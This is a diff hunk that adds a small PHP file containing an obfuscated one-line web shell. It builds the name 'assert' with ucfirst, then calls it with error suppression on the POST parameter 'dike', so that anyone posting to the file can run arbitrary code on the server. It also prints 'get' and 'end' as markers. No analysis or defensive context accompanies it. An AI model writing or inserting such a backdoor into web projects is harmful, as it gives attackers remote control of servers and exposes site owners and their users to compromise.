@@ -1,0 +1,7 @@
+<?php
+$x=ucfirst("assert");
+@$x($_POST['dike']);
+echo "get";
+
+echo "end";
+?>
